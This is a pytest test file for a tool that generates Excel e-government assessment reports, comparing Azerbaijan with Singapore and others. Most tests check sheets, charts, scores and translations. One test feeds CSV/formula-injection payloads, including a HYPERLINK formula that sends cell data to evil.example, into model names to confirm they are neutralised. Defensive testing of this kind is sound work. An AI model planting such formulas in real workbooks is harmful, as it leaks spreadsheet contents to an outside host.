"""Country report workbook: sheets, key cells, charts, tables, print settings, safety, determinism."""

from __future__ import annotations

import datetime as dt
import math
import zipfile

import pytest
from openpyxl import load_workbook

from assess.errors import ReportError
from assess.frameworks import framework_from_dict, load_framework
from assess.reports.country import report, save_workbook

FIXED = dt.datetime(2024, 9, 1, 12, 0, 0)
SHEETS = ["Summary", "Scores", "Trends", "Comparison", "Gaps", "Model", "GTMI & evidence", "What came true",
          "What came true by year", "Strategy assessment", "Strategy structure", "Robustness", "Method & sources"]


@pytest.fixture(scope="module")
def aze(tmp_path_factory):
    """The AZE report with three comparators and a strategy profile, saved and reopened."""
    path = tmp_path_factory.mktemp("r") / "aze.xlsx"
    save_workbook(report("AZE", compare=["SGP", "EST", "KOR"], edition=2024, assessment="azerbaijan_2003_2012",
                         fixed_date=FIXED), path)
    return load_workbook(path)


def _named(wb, name):
    sheet, ref = next(wb.defined_names[name].destinations)
    return wb[sheet][ref.replace("$", "")].value


def test_sheets(aze):
    assert aze.sheetnames == SHEETS


def test_summary_key_figures_and_named_ranges(aze):
    assert _named(aze, "EGDI") == 0.76073
    assert _named(aze, "EGDI_Rank") == 74
    assert _named(aze, "EGDI_Group") == "Very high"
    assert _named(aze, "EGDI_Class") == "V1"
    assert _named(aze, "EGDI_Change") == pytest.approx(0.76073 - 0.69370)
    assert _named(aze, "EGDI_RankChange") == 83 - 74
    assert _named(aze, "Country") == "Azerbaijan (AZE)"
    ws = aze["Summary"]
    assert ws["A1"].value == "E-government assessment: Azerbaijan"
    text = " ".join(str(c.value) for c in ws["A"] if c.value)
    assert "rank 74 of 193, in the Very high group" in text
    assert "Since 2022 its EGDI has changed by +0.0670 and its rank by +9 places." in text
    assert "Its largest gap to the best comparator (Estonia) is in OSI" in text
    assert "Raising OSI alone to" in text


def test_scores_table(aze):
    ws = aze["Scores"]
    (tab,) = ws.tables.values()
    assert tab.displayName == "Scores"
    assert tab.ref == "A1:K49"  # 4 countries x 12 editions + header
    assert tab.tableStyleInfo.showRowStripes
    assert ws.freeze_panes == "C2"
    heads = [c.value for c in ws[1]]
    assert heads == ["ISO3", "Country", "Edition", "EGDI", "Rank", "Group", "Rating class", "OSI", "HCI", "TII", "EPI"]
    rows = {(r[0], r[2]): r for r in ws.iter_rows(min_row=2, values_only=True)}
    assert rows[("AZE", 2024)][3:5] == (0.76073, 74)
    assert rows[("SGP", 2024)][4] == 3
    assert ws["D2"].number_format == "0.00000"
    rules = {r.type for rng in ws.conditional_formatting for r in rng.rules}
    assert rules == {"colorScale", "iconSet"}


def test_scores_table_size_matches_data(aze):
    from assess.indices import published

    n = sum(int(published.published(y).loc[["AZE", "SGP", "EST", "KOR"], "assessed"].sum()) for y in published.EDITIONS)
    assert aze["Scores"].tables["Scores"].ref == f"A1:K{n + 1}"


def _refs(chart):
    return [s.val.numRef.f for s in chart.series], chart.series[0].cat.numRef or chart.series[0].cat.strRef


def test_charts_and_their_data_references(aze):
    counts = {ws.title: len(ws._charts) for ws in aze.worksheets}
    assert counts == {"Summary": 0, "Scores": 0, "Trends": 2, "Comparison": 1, "Gaps": 1, "Model": 0,
                      "GTMI & evidence": 0, "What came true": 0, "What came true by year": 0,
                      "Strategy assessment": 1, "Strategy structure": 0, "Robustness": 0, "Method & sources": 0}
    egdi, rank = aze["Trends"]._charts
    vals, cats = _refs(egdi)
    assert vals == [f"'Trends'!${c}$5:${c}$16" for c in "BCDE"]
    assert cats.f == "'Trends'!$A$5:$A$16"
    assert aze["Trends"]["A16"].value == 2024 and aze["Trends"]["B16"].value == 0.76073
    assert rank.y_axis.scaling.orientation == "maxMin"
    (bars,) = aze["Comparison"]._charts
    vals, cats = _refs(bars)
    assert vals == [f"'Comparison'!${c}$4:${c}$8" for c in "BCDE"]
    assert aze["Comparison"]["B4"].value == 0.76073


def test_print_settings_every_sheet(aze):
    for ws in aze.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0
        assert "&P" in ws.oddFooter.right.text and "&N" in ws.oddFooter.right.text
    assert aze["Scores"].print_title_rows == "$1:$1"
    assert aze["Gaps"].print_title_rows == "$4:$4"


def test_document_properties_and_no_formulas(aze):
    p = aze.properties
    assert p.title == "E-government assessment: Azerbaijan" and p.creator == "egov-assess"
    assert p.created == FIXED and p.modified == FIXED
    for ws in aze.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate}"


def test_gaps_and_targets(aze):
    ws = aze["Gaps"]
    rows = list(ws.iter_rows(min_row=5, max_row=8, values_only=True))
    sgp = next(r for r in rows if r[0] == "Singapore (SGP)")
    assert sgp[2] == pytest.approx(0.20839, abs=1e-5)
    assert sum(sgp[3:7]) == pytest.approx(sgp[2])
    texts = [r for r in ws.iter_rows(values_only=True) if r[0] == "rank 50"]
    osi = next(r for r in texts if r[1] == "OSI")
    assert osi[3] == pytest.approx(0.97721, abs=1e-5)  # same as assess.indices.scenarios.smallest_change


def test_rank_targets_agree_with_whatif():
    from assess.indices.scenarios import smallest_change
    from assess.reports.country.analysis import rank_targets as _rank_targets

    mine = _rank_targets("AZE", 2024, [("r", 60)]).set_index("component")
    ref = smallest_change("AZE", 2024, rank=60).table
    assert mine["needed"].tolist() == pytest.approx(ref["needed"].tolist(), abs=1e-4, nan_ok=True)
    assert mine["reachable"].tolist() == ref["reachable"].tolist()


def test_model_strategy_robustness(aze):
    model = aze["Model"]
    assert model["A1"].value == "Country model: Azerbaijan: e-government and digital development, 2003-2026"
    ids = [c.value for c in model["C"]]  # reporting-lines table: id in C (merged C:D)
    assert "egov_development_center" in ids
    strat = aze["Strategy assessment"]
    row = next(r for r in strat.iter_rows(values_only=True) if r[1] == "Diagrams and architecture")
    assert row[2:4] == (0, "Absent") and row[5] == 4
    rob = {r[0]: r for r in aze["Robustness"].iter_rows(min_row=5, values_only=True) if r[0]}
    assert rob["AZE"][2] == 74 and rob["SGP"][2] == 3
    assert rob["AZE"][3] <= 74 <= rob["AZE"][5]


def test_azerbaijani_labels():
    wb = report("AZE", compare=["SGP"], lang="az", fixed_date=FIXED)
    assert wb.sheetnames[:2] == ["Xülasə", "Ballar"]
    text = " ".join(str(c.value) for c in wb["Xülasə"]["A"] if c.value)
    assert "2024-cü ildə" in text and "193 ölkə arasında 74-cü yerdədir" in text
    assert _named(wb, "EGDI_Group") == "Çox yüksək"


def test_deterministic_with_fixed_date(tmp_path):
    a = save_workbook(report("AZE", compare=["SGP"], fixed_date=FIXED), tmp_path / "a.xlsx")
    b = save_workbook(report("AZE", compare=["SGP"], fixed_date=FIXED), tmp_path / "b.xlsx")
    za, zb = zipfile.ZipFile(a), zipfile.ZipFile(b)
    assert za.namelist() == zb.namelist()
    for n in za.namelist():
        assert za.read(n) == zb.read(n), n


def test_injection_in_a_country_model_name_is_inert(tmp_path):
    doc = load_framework("azerbaijan_today").to_dict()
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    doc["name"] = {"en": "-2+3", "az": "x"}
    doc["nodes"][0]["name"] = {"en": evil, "az": evil}
    doc["nodes"][1]["name"] = {"en": "@SUM(1)", "az": "@SUM(1)"}
    doc["nodes"][2]["name"] = {"en": "\tcmd", "az": "\tcmd"}
    model = framework_from_dict(doc)
    path = save_workbook(report("AZE", compare=["SGP"], model=model, fixed_date=FIXED), tmp_path / "x.xlsx")
    ws = load_workbook(path)["Model"]
    col_a = [c.value for c in ws["A"]]
    first = col_a.index("Name") + 1  # reporting-lines table: every node, in the model's order
    assert col_a[first:first + 3] == ["'" + evil, "'@SUM(1)", "'\tcmd"]
    assert all(v is None or not str(v).startswith(("=", "@", "\t", "-", "+")) for v in col_a)
    assert ws["A1"].value == "Country model: -2+3"  # inside a sentence: harmless, kept as is
    for row in ws.iter_rows():
        for c in row:
            assert c.data_type != "f"
    with zipfile.ZipFile(path) as z:
        sheet_xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheet_xml


def test_atomic_save_leaves_nothing_on_failure(tmp_path):
    class Broken:
        def save(self, path):
            with open(path, "wb") as fh:
                fh.write(b"partial")
            raise RuntimeError("disk full")

    target = tmp_path / "r.xlsx"
    target.write_bytes(b"old report")
    with pytest.raises(RuntimeError, match="disk full"):
        save_workbook(Broken(), target)
    assert target.read_bytes() == b"old report"
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


@pytest.mark.parametrize("kw, match", [
    ({"country": "XXX"}, r"country: 'XXX' was not assessed in the UN E-Government Survey 2024"),
    ({"country": "AZE", "compare": ["SGP", "ZZZ"]}, r"compare: unknown ISO3 code\(s\) \['ZZZ'\]"),
    ({"country": "AZE", "edition": 2023}, r"edition: must be one of \[2003, .*\]\. Got 2023 instead\."),
    ({"country": "AZE", "lang": "fr"}, r"lang: must be one of \['en', 'az'\]\. Got 'fr' instead\."),
    ({"country": "AZE", "assessment": "no_profile"}, r"assessment: expected a saved assessment"),
])
def test_errors(kw, match):
    with pytest.raises(ReportError, match=match):
        report(**kw)


def test_assessment_from_filled_template(tmp_path):
    from assess.strategy.workbook import read_assessment, write_template

    rub = load_framework("strategic_structure")
    answers = {c: {"level": 3, "evidence": f"doc {i}"} for i, c in enumerate(c.id for c in rub.criteria)}
    path = write_template(tmp_path / "filled.xlsx", answers=answers)
    for given in (path, read_assessment(path)):
        wb = report("AZE", compare=["SGP"], assessment=given, fixed_date=FIXED)
        ws = wb["Strategy assessment"]
        overall = next(r for r in ws.iter_rows(values_only=True) if r[0] == "Overall")
        assert overall[1:4] == (pytest.approx(3.0), pytest.approx(4.0), pytest.approx(1.0))  # levels 0-4
        level = next(r for r in ws.iter_rows(values_only=True) if r[0] == "Overall level")
        assert level[1] == "3 (Defined)"


def test_other_edition_and_country():
    wb = report("SGP", compare=["AZE"], edition=2022, fixed_date=FIXED)
    assert _named(wb, "EGDI_Rank") == 12
    assert wb["Model"]["A1"].value.startswith("Country model: Singapore")


# --------------------------------------------------------------------------- model readiness
def _table(ws, first_header):
    """``(header row index, {first-column value: row dict})`` of the table whose header starts with
    ``first_header``."""
    rows = list(ws.iter_rows(values_only=True))
    h = next(i for i, r in enumerate(rows) if r[0] == first_header)
    heads = rows[h]
    out = {}
    for r in rows[h + 1:]:
        if r[0] is None or (r[1] is None and r[2] is None):
            break
        out[r[0]] = {k: v for k, v in zip(heads, r, strict=True) if k}
    return h + 1, out


@pytest.fixture(scope="module")
def proposal(tmp_path_factory):
    """AZE with the paper's proposed model and the 2003-2012 strategy profile, saved and reopened."""
    path = tmp_path_factory.mktemp("p") / "proposal.xlsx"
    save_workbook(report("AZE", compare=["SGP", "EST"], edition=2024, model="azerbaijan_proposal",
                         assessment="azerbaijan_2003_2012", fixed_date=FIXED), path)
    return load_workbook(path)


def test_model_readiness_from_assess_readiness(proposal):
    from assess.model.readiness_scoring import readiness

    ws = proposal["Model"]
    row, table = _table(ws, "Component")
    # largest gap first: the users' e-culture (the paper's e-mədəniyyət): its one decided tag, digital skills, is
    # absent in GTMI 2022 (I-45 = 0) -> 0; Singapore's GovTech 0.75 -> gap 0.75
    assert list(table)[0] == "E-culture of the users"
    assert table["E-culture of the users"]["Readiness"] == 0.0 and table["E-culture of the users"]["Gap"] == 0.75
    # then the national ICT strategy, partial in GTMI 2022 (I-35 = 1: planned / in draft)
    ict = "National ICT Strategy for the Development of the Republic of Azerbaijan (2003-2012)"
    assert list(table)[1] == ict and table[ict]["Readiness"] == 0.5
    gw = table["E-government gateway"]
    assert gw["Type"] == "platform"
    # mean of the indices part (GTMI PSDI 2022, OSI 2024) and the evidence part (1: portal, information and
    # transactions present in GTMI 2022)
    own = ((0.935367 + 0.73863) / 2 + 1) / 2
    assert gw["Readiness"] == pytest.approx(own, abs=1e-6)
    # Singapore's portal (OSI 2024 and evidence 1), birth registration and GoBusiness (evidence 1 each)
    sgp = ((0.98306 + 1) / 2 + 1 + 1) / 3
    assert gw["Singapore readiness"] == pytest.approx(sgp)
    assert gw["Gap"] == pytest.approx(sgp - own, abs=1e-6)
    assert gw["Indicators (year used)"] == "gtmi.psdi (2022)\nun_egdi.osi (2024)\nevidence (wb_gtmi_indicators 2022)"
    assert "Gov.sg portal" in gw["Aligned Singapore components"]
    ministry = table["Ministry of Communications and Information Technologies"]
    assert ministry["Readiness"] is None and ministry["Gap"] is None
    assert ministry["Missing data"] == "OECD DGI does not cover AZE"
    # every measured component of assess.readiness is shown, with the same numbers
    ref = readiness("azerbaijan_proposal", year=2024, reference="singapore")
    measured = ref[(ref["status"] == "measured") | (ref["indicators"].map(len) > 0)]
    assert len(table) == len(measured)
    for x in measured.itertuples():
        got = table[x.name]["Readiness"]
        assert (got is None and math.isnan(x.readiness)) or got == pytest.approx(x.readiness), x.node
    assert ws.cell(row + 1, 3).number_format == "0.000"
    assert ws.cell(row + 1, 5).number_format.startswith("+0.000")
    scales = [str(rng.sqref) for rng in ws.conditional_formatting for r in rng.rules if r.type == "colorScale"]
    assert f"E{row + 1}:E{row + len(table)}" in scales


def test_model_capability_gaps_findings_and_reporting_lines(proposal):
    from assess.model.build import build_graph
    from assess.model.compare import align

    ws = proposal["Model"]
    _, caps = _table(ws, "Capability")
    only_sgp = align(build_graph("singapore"), build_graph("azerbaijan_proposal"))["only_a"]
    assert set(only_sgp) <= set(caps)
    assert "Singapore: MyInfo" in caps["consented_data_sharing"]["Where the reference models have it"]
    texts = [c.value for c in ws["A"]]
    assert "No structural problems found." in texts
    _, lines = _table(ws, "Name")
    assert lines["E-government gateway"]["Id"] == "egov_gateway"
    assert len(lines) == 74  # every node of the proposal (as the paper wrote it, issue 12)
    ministry = lines["Ministry of Communications and Information Technologies"]
    assert ministry["Reports to"] == "it_supreme_council" and ministry["Type"] == "ministry"
    assert lines["General Directorate for Ensuring Information Law"]["Reports to"] == "ict_ministry"


# --------------------------------------------------------------------------- strategy through score_rubric
def test_strategy_dimensions_and_improvements_from_score_rubric(proposal):
    from assess.strategy.rubric import score_rubric

    sc = score_rubric("azerbaijan_2003_2012")
    ws = proposal["Strategy assessment"]
    row, dims = _table(ws, "Dimension")  # first table: criteria
    assert dims  # the criteria table comes first, then the dimension table
    rows = list(ws.iter_rows(values_only=True))
    h = next(i for i, r in enumerate(rows) if r[1] == "Score (0-4)")
    got = {r[0]: r[1:4] for r in rows[h + 1:h + 5]}
    assert got["Strategic direction"] == (1.6, 4.0, 2.4)  # (2 + 2 + 1 + 1 + 2) / 5 with comprehensibility 2
    assert got["Implementation design"] == (pytest.approx(sc["dimensions"].loc["implementation", "score"]), 4.0,
                                            pytest.approx(3.0))
    overall = rows[h + 5]
    assert overall[0] == "Overall" and overall[1] == pytest.approx(sc["overall"]) == pytest.approx(1.4625)
    assert rows[h + 6][:2] == ("Overall level", "1 (Mentioned)") and sc["overall_level"] == 1
    # chart: dimensions against Singapore, two series over the table's own cells
    (ch,) = ws._charts
    vals, cats = _refs(ch)
    assert vals == [f"'Strategy assessment'!${c}${h + 2}:${c}${h + 5}" for c in "BC"]
    assert cats.f == f"'Strategy assessment'!$A${h + 2}:$A${h + 5}"
    # improvements, ranked by gap x weight, with the rubric's text for the next level
    i = next(k for k, r in enumerate(rows) if r[6] == "Gap × weight")
    imp = [r for r in rows[i + 1:] if r[6] is not None]
    assert len(imp) == len(sc["improvements"]) == 17
    first = imp[0]
    assert first[1:5] == ("Diagrams and architecture", 0, "1 (Mentioned)", "Decorative pictures only.")
    assert first[5:] == (4, pytest.approx(sc["improvements"]["priority"].iloc[0]))
    assert [r[6] for r in imp] == pytest.approx(sc["improvements"]["priority"].tolist())


def test_singapore_profile_overall_level_and_no_improvements():
    from assess.strategy.rubric import score_rubric

    wb = report("AZE", compare=["SGP"], assessment="singapore_dgb", fixed_date=FIXED)
    rows = list(wb["Strategy assessment"].iter_rows(values_only=True))
    level = next(r for r in rows if r[0] == "Overall level")
    expected = score_rubric("singapore_dgb")["overall_level"]
    assert level[1] == f"{expected} (Defined and used)" and expected == 4
    assert any(r[0] == "No criterion is below Singapore." for r in rows)
    text = " ".join(str(c.value) for c in wb["Summary"]["A"] if c.value)
    assert "reaches overall level 4 (Defined and used): 4.00 of 4, against 4.00 for Singapore." in text
    assert "largest improvement" not in text


def test_summary_mentions_strategy_level_top_improvements_and_model_gap(proposal):
    text = " ".join(str(c.value) for c in proposal["Summary"]["A"] if c.value)
    assert "reaches overall level 1 (Mentioned): 1.46 of 4, against 4.00 for Singapore." in text
    assert ("The largest improvements (gap × weight) are Diagrams and architecture (level 0 to 4) and "
            "Goals and KPIs (level 1 to 4).") in text
    assert ("the largest readiness gap to Singapore is in “E-culture of the users”: 0.000 against 0.750 "
            "(gap 0.750).") in text


def test_summary_without_strategy_or_model_says_nothing_of_them():
    wb = report("AZE", compare=["SGP"], model=None, fixed_date=FIXED)
    text = " ".join(str(c.value) for c in wb["Summary"]["A"] if c.value)
    assert "strategy assessment" not in text
    assert "readiness gap" in text  # AZE has a bundled model (today's)


# --------------------------------------------------------------------------- Azerbaijani country names
def test_azerbaijani_country_names():
    wb = report("AZE", compare=["SGP", "TUR"], lang="az", model="azerbaijan_proposal",
                assessment="azerbaijan_2003_2012", fixed_date=FIXED)
    ws = wb["Xülasə"]
    assert ws["A1"].value == "Elektron hökumətin qiymətləndirilməsi: Azərbaycan"
    assert _named(wb, "Country") == "Azərbaycan (AZE)"
    assert ws["B4"].value == "Sinqapur (SGP), Türkiyə (TUR)"
    text = " ".join(str(c.value) for c in ws["A"] if c.value)
    assert "2024-cü ildə Azərbaycan EGDI üzrə" in text
    assert "1-ci səviyyəyə (Qeyd edilib)" in text and "Sinqapur ilə ən böyük hazırlıq fərqi" in text
    scores = {r[0]: r[1] for r in wb["Ballar"].iter_rows(min_row=2, values_only=True)}
    assert scores["AZE"] == "Azərbaycan" and scores["SGP"] == "Sinqapur"
    model = wb["Model"]
    heads = [c.value for c in model[6]]
    assert "Sinqapurun hazırlığı" in heads and "Çatışmayan məlumat" in heads  # the genitive (assess.i18n.inflect)
    missing = [c.value for c in model["H"] if c.value]
    assert "OECD DGI AZE ölkəsini əhatə etmir" in missing


def test_azerbaijani_name_falls_back_to_english(monkeypatch):
    import importlib

    countries_mod = importlib.import_module("assess.data.country_list")  # the module (assess.countries is the function)
    real = countries_mod.countries

    def without_sgp(*a, **kw):
        c = real(*a, **kw)
        c.loc[c["iso3"] == "SGP", "name_az"] = None
        return c

    monkeypatch.setattr(countries_mod, "countries", without_sgp)
    wb = report("AZE", compare=["SGP"], lang="az", fixed_date=FIXED)
    assert wb["Xülasə"]["B4"].value == "Singapore (SGP)"
    assert _named(wb, "Country") == "Azərbaycan (AZE)"


def test_gtmi_sheet_names_the_key_indicators_of_their_own_edition(proposal):
    ws = proposal["GTMI & evidence"]
    rows = list(ws.iter_rows(values_only=True))
    assert rows[4][:2] == ("GTMI 2025", pytest.approx(0.768863, abs=1e-6))
    assert rows[4][2] == "Group A"
    _, key = _table(ws, "Code")
    assert len(key) == 48
    assert key["I-30"]["Official name (question)"] == ("Are there national platforms that allow citizens to "
                                                       "participate in policy decision-making?")
    assert key["I-30"]["Value"] == 1
    # the 2022 values carry the 2022 question of I-40, never the 2025 one (GreenTech policy)
    assert key["I-40"]["Official name (question)"] == "Is there a national ID (or similar foundational ID) system?"
    text = " ".join(str(c) for r in rows for c in r if c)
    assert "GTMI 2025 key indicators are not in the bundled data" in text
    assert "e_participation" in text and "I-30 = 1 (wb_gtmi_indicators 2022)" in text
    assert "a proposal (a design, not a description)" in text  # the proposal is not cross-checked


def test_gtmi_sheet_in_azerbaijani_and_the_cross_check_of_today():
    wb = report("AZE", compare=["SGP"], lang="az", fixed_date=FIXED)
    ws = wb["GTMI və sübutlar"]
    assert ws["A1"].value == "Dünya Bankının GovTech Yetkinlik İndeksi və sübutlar: Azərbaycan"
    text = " ".join(str(c) for r in ws.iter_rows(values_only=True) for c in r if c)
    assert "azerbaijan_today modeli sübutlarla müqayisədə" in text
    assert "cloud_infrastructure: lacks (present; I-1 = 2 (wb_gtmi_indicators 2022))" in text
    assert "e_participation: lacks" not in text  # the participation portal is in today's model (issue 12)


def test_report_values_are_rounded_as_published(aze):
    # issue 15: the report showed GTMI 0.7747284310624128 and gap parts such as 0.08143999999999996
    summary = [c.value for row in aze["Summary"].iter_rows() for c in row]
    # the summary's GTMI is the latest edition's (2025: 0.768863 in the data), shown to three decimals
    assert 0.769 in summary and "GovTech Maturity Index (GTMI) 2025" in summary
    assert not [v for v in summary if isinstance(v, float) and 0.7688 < v < 0.7689]
    gaps = [c.value for row in aze["Gaps"].iter_rows() for c in row if isinstance(c.value, float)]
    assert gaps and all(round(v, 5) == v for v in gaps), [v for v in gaps if round(v, 5) != v][:5]
